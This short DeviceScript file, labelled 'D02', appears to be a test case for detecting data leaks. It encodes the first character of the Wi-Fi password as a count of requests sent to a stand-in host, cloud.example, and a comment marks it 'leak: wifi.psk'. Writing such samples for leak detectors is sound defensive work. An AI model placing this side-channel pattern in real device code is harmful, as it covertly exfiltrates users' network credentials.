// D02: as many requests as the code of the first character.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  for (let i = 0; i < psk.charCodeAt(0); i++) {
    const response = await fetch("https://cloud.example/d02"); // leak: wifi.psk
    await response.close();
  }
});
